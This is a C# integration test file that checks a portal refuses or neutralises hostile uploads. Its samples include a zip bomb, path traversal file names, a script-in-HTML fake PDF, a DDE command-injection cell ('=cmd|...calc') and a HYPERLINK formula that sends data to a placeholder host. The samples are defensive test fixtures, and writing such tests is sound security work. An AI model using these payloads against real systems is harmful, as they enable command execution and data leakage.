using System.IO.Compression;
using System.Text;
using Belu.Portal.Common;
using Belu.Portal.Common.Files;
using Belu.Portal.Features.Attendance;
using Belu.Portal.Features.Attendance.Admin;
using Belu.Portal.Features.Attendance.Domain;
using Belu.Portal.Features.Letters;
using Belu.Portal.Features.Organization;
using Belu.Portal.Features.Reports.EmployeeList;
using Belu.Portal.Features.Reports.Pipeline;
using Belu.Portal.Tests.Infrastructure;
using Belu.Portal.Tests.Integration.Letters;
using ClosedXML.Excel;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Belu.Portal.Tests.Integration.Security;

/// <summary>
/// A corpus of hostile files and lines, sent through the services the pages call: each is refused with a message in
/// Bahasa Indonesia, or neutralised, and nothing half-done is left behind.
/// </summary>
public class HostileUploadTests(PortalFactory factory) : IClassFixture<PortalFactory>
{
    private static byte[] GoodPdf() => LettersDemoSeed.DemoPdf();

    /// <summary>Ten megabytes of zeros compressed into a few kilobytes, renamed as a scan.</summary>
    private static byte[] ZipBomb()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("isi.pdf", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 10; i++)
            {
                entry.Write(zeros);
            }
        }
        return buffer.ToArray();
    }

    /// <summary>Each refused file, its name, and a word the Indonesian message must contain.</summary>
    public static TheoryData<string, string, string> Refused() => new()
    {
        { "salah-magic", "surat.pdf", "bukan" },
        { "exe", "surat.pdf", "bukan" },
        { "html", "surat.pdf", "bukan" },
        { "terpotong", "surat.pdf", "terpotong" },
        { "zip-bomb", "surat.pdf", "bukan" },
        { "kosong", "surat.pdf", "kosong" },
        { "raksasa", "surat.pdf", "terlalu besar" },
    };

    private static byte[] Content(string kind) => kind switch
    {
        "salah-magic" => "%PFD-1.7 hampir pdf\n%%EOF"u8.ToArray(),
        "exe" => [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, .. new byte[200]],
        "html" => "<html><script>alert(1)</script></html>%PDF-1.7\n%%EOF"u8.ToArray(),
        "terpotong" => GoodPdf()[..(GoodPdf().Length / 2)],
        "zip-bomb" => ZipBomb(),
        "kosong" => [],
        "raksasa" => [.. "%PDF-1.7\n"u8, .. new byte[10 * 1024 * 1024], .. "\n%%EOF"u8],
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task AHostileScanIsRefusedAndNoLetterOrFileIsKept(string kind, string name, string message)
    {
        await using var before = factory.CreateDbContext();
        var letters = await before.IncomingLetters.CountAsync();
        var files = await before.LetterFiles.CountAsync();

        var form = await factory.FormAsync("Surat dengan lampiran " + kind);
        var refused = await Assert.ThrowsAsync<ValidationException>(() =>
            factory.RegisterAsync(form, new FileUpload(name, new MemoryStream(Content(kind)))));
        Assert.Contains(message, refused.Message);

        await using var after = factory.CreateDbContext();
        Assert.Equal(letters, await after.IncomingLetters.CountAsync());
        Assert.Equal(files, await after.LetterFiles.CountAsync());
        var incoming = Path.Combine(factory.StorageRoot, "incoming");
        Assert.True(!Directory.Exists(incoming) || Directory.GetFiles(incoming).Length == 0, "a refused upload left a temporary file");
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task AHostileRequestDocumentIsRefused(string kind, string name, string message)
    {
        var day = factory.Services.GetRequiredService<OfficeClock>().Today.AddDays(60 + Refused().ToList().FindIndex(r => (string)r[0] == kind));
        await using var scope = await factory.ScopeForAsync("pegawai");
        var refused = await Assert.ThrowsAsync<ValidationException>(() => scope.ServiceProvider.GetRequiredService<SubmitRequest>().CreateAsync(
            new RequestInput { Kind = RequestKind.S, From = day, To = day, Reason = "Sakit, surat dokter terlampir." },
            new RequestDocument(new MemoryStream(Content(kind)), name)));
        Assert.Contains(message, refused.Message);
        Assert.DoesNotContain(await scope.ServiceProvider.GetRequiredService<RequestQueries>().ListMineAsync(), r => r.From == day);
    }

    [Theory]
    [InlineData("../../etc/passwd.pdf", "passwd.pdf")]
    [InlineData("..\\..\\windows\\win.ini.pdf", "win.ini.pdf")]
    [InlineData("sur\0at\r\n\u001b[31m.pdf", "surat[31m.pdf")]
    [InlineData("scan.pdf.exe", "scan.pdf.exe.pdf")]
    [InlineData("laporan.php", "laporan.php.pdf")]
    [InlineData("...", "berkas.pdf")]
    public async Task AHostileNameIsNeutralisedAndTheFileStaysInsideTheStore(string name, string stored)
    {
        var form = await factory.FormAsync("Surat bernama aneh " + Guid.NewGuid());
        var letterId = await factory.RegisterAsync(form, new FileUpload(name, new MemoryStream(LetterTestKit.Pdf(name))));

        await using var db = factory.CreateDbContext();
        var file = await db.LetterFiles.SingleAsync(f => f.LetterId == letterId);
        Assert.Equal(stored, file.FileName);
        var path = Path.GetFullPath(Path.Combine(factory.StorageRoot, file.StorageKey));
        Assert.StartsWith(Path.GetFullPath(factory.StorageRoot) + Path.DirectorySeparatorChar, path);
        Assert.True(File.Exists(path));
        Assert.DoesNotContain("..", file.StorageKey);
    }

    [Fact]
    public async Task AnEmployeeListWithFormulasImportsNothingAndSaysWhy()
    {
        const string csv = "NIP;Nama;Jabatan;Kode Unit;NIP Atasan;Jenis\n" +
            ";=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik\");Staf;DISKOMINFO-01;;Non-ASN\n" +
            ";+62 812 3456;Staf;DISKOMINFO-01;;Non-ASN\n" +
            ";-1+1;Staf;DISKOMINFO-01;;Non-ASN\n" +
            ";@SUM(1+1);Staf;DISKOMINFO-01;;Non-ASN\n" +
            ";\t=1+1;Staf;DISKOMINFO-01;;Non-ASN\n" +
            ";Nama Biasa;=cmd|' /C calc'!A0;DISKOMINFO-01;;Non-ASN\n";
        await using var scope = await factory.ScopeForAsync("admin");
        var import = scope.ServiceProvider.GetRequiredService<EmployeeImportService>();
        var preview = await import.PreviewAsync(new MemoryStream(Encoding.UTF8.GetBytes(csv)));

        Assert.False(preview.IsValid);
        Assert.Equal(6, preview.Rows.Count);
        Assert.All(preview.Rows, r => Assert.Contains(r.Errors, e => e.Contains("tidak boleh diawali tanda =, +, - atau @", StringComparison.Ordinal)));
        var refused = await Assert.ThrowsAsync<ValidationException>(() => import.ImportAsync(preview));
        Assert.Contains("tidak ada data yang diimpor", refused.Message);
        await using var db = factory.CreateDbContext();
        Assert.False(await db.Employees.AnyAsync(e => e.Name.StartsWith("=HYPERLINK") || e.Position.StartsWith("=cmd")));
    }

    [Fact]
    public async Task ABinaryFileGivenAsAnEmployeeListIsRefused()
    {
        await using var scope = await factory.ScopeForAsync("admin");
        var preview = await scope.ServiceProvider.GetRequiredService<EmployeeImportService>().PreviewAsync(new MemoryStream(ZipBomb()));
        Assert.False(preview.IsValid);
        Assert.NotNull(preview.FileError);
    }

    [Fact]
    public async Task AFingerprintLogWithFormulasOrBinaryStoresNothing()
    {
        await using var scope = await factory.ScopeForAsync("admin");
        await using var before = factory.CreateDbContext();
        var punches = await before.Punches.CountAsync();

        var log = string.Join("\n",
            "=HYPERLINK(\"http://contoh.invalid\")\t2026-11-02 07:00:00",
            "+1\t2026-11-02 07:00:00",
            "@SUM(1)\t2026-11-02 07:00:00",
            "-1\t2026-11-02 07:00:00",
            "1\t=NOW()");
        var (result, lines) = await scope.ServiceProvider.GetRequiredService<ImportPunchLog>().ImportAsync(log, "../../attlog.dat");
        Assert.Equal(0, result.Accepted);
        Assert.Equal(5, result.Rejected);
        Assert.All(lines, l => Assert.False(string.IsNullOrWhiteSpace(l.Reason)));

        var binary = await Assert.ThrowsAsync<ValidationException>(() => scope.ServiceProvider.GetRequiredService<ImportPunchLog>().ImportAsync(Encoding.Latin1.GetString(ZipBomb()), "attlog.dat"));
        Assert.Contains("bukan berkas teks", binary.Message);

        await using var after = factory.CreateDbContext();
        Assert.Equal(punches, await after.Punches.CountAsync());
    }

    [Fact]
    public async Task ExportedCellsThatLookLikeFormulasStayText()
    {
        string[] hostile = ["=HYPERLINK(\"http://contoh.invalid\",\"Klik\")", "+62 812 3456", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
        await using (var db = factory.CreateDbContext())
        {
            var unit = await db.Units.SingleAsync(u => u.Code == "DISKOMINFO");
            // Written past the service's own check, as old data or another tool might have left them.
            db.Employees.AddRange(hostile.Select((h, i) => new Employee
            {
                Name = "ZZ " + i + " " + h, Position = h, UnitId = unit.Id, EmploymentType = EmploymentType.NonAsn,
            }));
            await db.SaveChangesAsync();
        }
        var unitId = (await factory.CreateDbContext().Units.SingleAsync(u => u.Code == "DISKOMINFO")).Id;
        var client = factory.CreateBrowserLikeClient();
        await client.SignInAsync("admin");
        var response = await client.GetAsync(EmployeeListReport.Link(unitId, null, true));
        response.EnsureSuccessStatusCode();

        using var book = new XLWorkbook(new MemoryStream(await response.Content.ReadAsByteArrayAsync()));
        var ws = book.Worksheet(1);
        var positions = ws.Column(4).CellsUsed().Where(c => c.Address.RowNumber >= SheetPlan.FirstDataRow).ToList();
        foreach (var value in hostile)
        {
            // XML reads a bare carriage return back as a line feed; what matters is that it stays text.
            var cell = positions.SingleOrDefault(c => c.GetString().Replace('\r', '\n') == value.Replace('\r', '\n'));
            Assert.True(cell is not null, $"{value.Replace("\t", "\\t").Replace("\r", "\\r")} not found in [{string.Join(" | ", positions.Select(c => c.GetString().Replace("\t", "\\t").Replace("\r", "\\r")))}]");
            Assert.False(cell.HasFormula, $"{value} became a formula");
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.True(cell.Style.IncludeQuotePrefix, $"{value} has no quote prefix");
        }
    }
}
